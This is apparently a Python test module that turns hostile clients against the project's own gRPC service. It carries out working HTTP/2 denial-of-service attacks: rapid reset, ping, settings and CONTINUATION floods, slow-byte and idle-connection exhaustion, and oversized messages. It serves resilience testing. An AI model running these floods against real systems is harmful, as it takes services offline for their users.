"""What one hostile client sends, one function a line of `production.md`'s table."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from typing import Final, TypeAlias

from tests.hostile import wire
from tests.hostile.wire import Metadata, RawConnection

SERVICE: Final = "/gongji.v1."

GUIDE: Final = f"{SERVICE}CityService/GetGuide"
CITIES: Final = f"{SERVICE}CityService/ListCities"
QUOTE: Final = f"{SERVICE}SettlementService/Quote"
TOTALS: Final = f"{SERVICE}SettlementService/ReconcileTotals"
IMPORT: Final = f"{SERVICE}RegistryService/ImportPersons"
WATCH: Final = "/grpc.health.v1.Health/Watch"

# area_code = "341100".
CHUZHOU: Final = b"\x0a\x06341100"


@dataclass(frozen=True)
class Victim:
    """Whom to attack, under which credential, and for how long."""

    address: str
    metadata: Metadata
    seconds: float
    tls: bool = False

    def connect(self, window: int | None = None) -> RawConnection:
        """Open a connection."""
        return RawConnection(self.address, window=window, tls=self.tls)

    def block(self, path: str) -> bytes:
        """Return the headers of a call."""
        return wire.header_block(path, self.metadata)


Attack: TypeAlias = Callable[[Victim], None]


def _ids(count: int, first: int = 1) -> range:
    return range(first, first + 2 * count, 2)


def _request(block: bytes, stream: int, payload: bytes) -> bytes:
    head = wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block)
    return head + wire.data(stream, wire.message(payload))


def rapid_reset(target: Victim) -> None:
    """Begin calls and take them back at once, 15,000 a second."""
    block = target.block(QUOTE)
    per_turn = 300
    until, stream = time.monotonic() + target.seconds, 1
    connection = target.connect()
    while time.monotonic() < until:
        frames = [
            wire.frame(wire.HEADERS, wire.END_HEADERS, number, block)
            + wire.reset(number)
            for number in _ids(per_turn, stream)
        ]
        stream += 2 * per_turn
        connection.drain()
        if not connection.send(b"".join(frames)):
            connection.close()
            connection, stream = target.connect(), 1
        time.sleep(0.02)
    connection.close()


def bursts(path: str, payload: bytes = CHUZHOU, size: int = 1000) -> Attack:
    """Return an attack of calls sent all at once, over and over."""

    def attack(target: Victim) -> None:
        block = target.block(path)
        until = time.monotonic() + target.seconds
        while time.monotonic() < until:
            with target.connect() as connection:
                sent = [_request(block, number, payload) for number in _ids(size)]
                grown = wire.frame(wire.WINDOW_UPDATE, 0, 0, (2**30).to_bytes(4))
                connection.send(grown + b"".join(sent))
                pause_until = time.monotonic() + 1
                while time.monotonic() < min(pause_until, until):
                    connection.drain()
                    time.sleep(0.02)

    return attack


def untaken(target: Victim) -> None:
    """Ask again and again, with no room for any reply."""
    block = target.block(GUIDE)
    until = time.monotonic() + target.seconds
    with ExitStack() as stack:
        while time.monotonic() < until:
            connection = target.connect(window=0)
            stack.enter_context(connection)
            for number in _ids(10_000):
                if time.monotonic() > until or not connection.send(
                    _request(block, number, CHUZHOU)
                ):
                    break
                if number % 200 == 1:
                    time.sleep(0.05)


def idle(path: str, count: int, first: bytes = b"") -> Attack:
    """Return an attack of calls that begin and then do nothing, over 16 connections."""

    def attack(target: Victim) -> None:
        block = target.block(path)
        with ExitStack() as stack:
            connections = [stack.enter_context(target.connect()) for _ in range(16)]
            for connection in connections:
                for number in _ids(count // 16):
                    head = wire.frame(wire.HEADERS, wire.END_HEADERS, number, block)
                    if first:
                        head += wire.data(number, wire.message(first), last=False)
                    connection.send(head)
            until = time.monotonic() + target.seconds
            while time.monotonic() < until:
                for connection in connections:
                    connection.drain()
                time.sleep(0.1)

    return attack


def unfinished(count: int) -> Attack:
    """Return an attack of plain calls whose request never ends."""
    return idle(QUOTE, count)


def huge(payload: bytes, path: str = TOTALS) -> Attack:
    """Return an attack of messages of some megabytes, one after the other."""

    def attack(target: Victim) -> None:
        block = target.block(path)
        until = time.monotonic() + target.seconds
        connection, stream = target.connect(), 1
        while time.monotonic() < until:
            if not connection.send(_request(block, stream, payload)) or stream > 400:
                connection.close()
                connection, stream = target.connect(), -1
            stream += 2
            connection.drain()
        connection.close()

    return attack


def cancelled(target: Victim) -> None:
    """Send whole calls by the thousand and go before they are answered."""
    block = target.block(QUOTE)
    until = time.monotonic() + target.seconds
    while time.monotonic() < until:
        with target.connect() as connection:
            sent = [_request(block, number, b"") for number in _ids(13_000)]
            connection.send(b"".join(sent))


def pings(target: Victim) -> None:
    """Send a quarter of a million pings a second."""
    _flood(target, wire.frame(wire.PING, 0, 0, bytes(8)) * 1000)


def settings_flood(target: Victim) -> None:
    """Change the settings without pause."""
    _flood(target, wire.settings([(wire.INITIAL_WINDOW, 65_535)]) * 1000)


def continuations(target: Victim) -> None:
    """Begin headers that never end."""
    piece = wire.frame(wire.CONTINUATION, 0, 1, bytes(1000))
    head = wire.frame(wire.HEADERS, 0, 1, target.block(QUOTE))
    _flood(target, piece * 50, head)


def _flood(target: Victim, piece: bytes, first: bytes = b"") -> None:
    until = time.monotonic() + target.seconds
    connection = target.connect()
    connection.send(first)
    while time.monotonic() < until:
        connection.drain()
        if not connection.send(piece):
            connection.close()
            connection = target.connect()
            connection.send(first)
            time.sleep(0.01)
    connection.close()


def slow_bytes(target: Victim) -> None:
    """Send a call byte by byte over a thousand connections."""
    raw = wire.PREFACE + wire.settings() + _request(target.block(QUOTE), 1, b"")
    _crowd(target, 1000, raw)


def idle_connections(target: Victim) -> None:
    """Open connections and say nothing."""
    _crowd(target, 5000, b"")


def _crowd(target: Victim, count: int, raw: bytes) -> None:
    """Open connections and send over each a byte in turn."""
    until = time.monotonic() + target.seconds
    with ExitStack() as stack:
        opened = list(_opened(target, count, stack, until))
        for byte in raw:
            for one in opened:
                with suppress(OSError):
                    one.send(bytes((byte,)))
            if time.monotonic() > until:
                break
        time.sleep(max(0, until - time.monotonic()))


def _opened(
    target: Victim, count: int, stack: ExitStack, until: float
) -> Iterator[socket.socket]:
    """Yield connections, as many as there are until the time has come."""
    host, _, port = target.address.rpartition(":")
    for _ in range(count):
        if time.monotonic() > until:
            return
        with suppress(OSError):
            one = socket.create_connection((host, int(port)), 1)
            stack.callback(one.close)
            yield one


class GreedyConnection(RawConnection):
    """A connection that always has so many calls in flight, whatever it is told."""

    def __init__(self, target: Victim, calls: int, *, polite: bool = False) -> None:
        super().__init__(target.address, tls=target.tls)
        self.socket.settimeout(0.001)
        self._polite = polite
        self._waiting: list[float] = []
        self._block = target.block(QUOTE)
        self._free = calls
        self._next = 1

    def turn(self) -> None:
        """Ask as often as there is room, and take what has been answered."""
        now = time.monotonic()
        self._free += sum(until <= now for until in self._waiting)
        self._waiting = [until for until in self._waiting if until > now]
        ids = _ids(self._free, self._next)
        self.send(b"".join([_request(self._block, number, b"") for number in ids]))
        self._next += 2 * self._free
        self._free = 0
        for got in self.frames():
            if got.kind == wire.HEADERS:
                self._answered(got)
            self._free += got.kind == wire.RST_STREAM

    def _answered(self, got: wire.Frame) -> None:
        """Note that a call has ended, if these headers are its last."""
        pushback_ms = int(self.headers(got).get("grpc-retry-pushback-ms", 0))
        if not got.flags & wire.END_STREAM:
            return
        if pushback_ms and self._polite:
            self._waiting.append(time.monotonic() + pushback_ms / 1000)
        else:
            self._free += 1


def in_flight(count: int, *, polite: bool) -> Attack:
    """Return an attack of so many calls in flight, whatever it is told, unless polite."""

    def attack(target: Victim) -> None:
        until = time.monotonic() + target.seconds
        with ExitStack() as stack:
            connections = [
                stack.enter_context(GreedyConnection(target, 100, polite=polite))
                for _ in range(count // 100)
            ]
            while time.monotonic() < until:
                for connection in connections:
                    connection.turn()

    return attack


ROWS: Final = b"\x22\x00" * 2_000_000
"""Two million empty rows of a message whose fourth field repeats."""

ATTACKS: Final[dict[str, Attack]] = {
    "nothing": lambda target: time.sleep(target.seconds),
    "rapid_reset": rapid_reset,
    "guides": bursts(GUIDE),
    "cities": bursts(CITIES, b""),
    "untaken": untaken,
    "watches": idle(WATCH, 4096, b""),
    "unfinished": unfinished(4096),
    "imports": idle(IMPORT, 3296),
    "rows": huge(ROWS),
    "cancelled": cancelled,
    "pings": pings,
    "settings": settings_flood,
    "continuations": continuations,
    "slow_bytes": slow_bytes,
    "connections": idle_connections,
    "greedy": in_flight(1500, polite=False),
    "polite": in_flight(1500, polite=True),
    "streams": idle(IMPORT, 4000),
    "polite_streams": idle(IMPORT, 256),
}
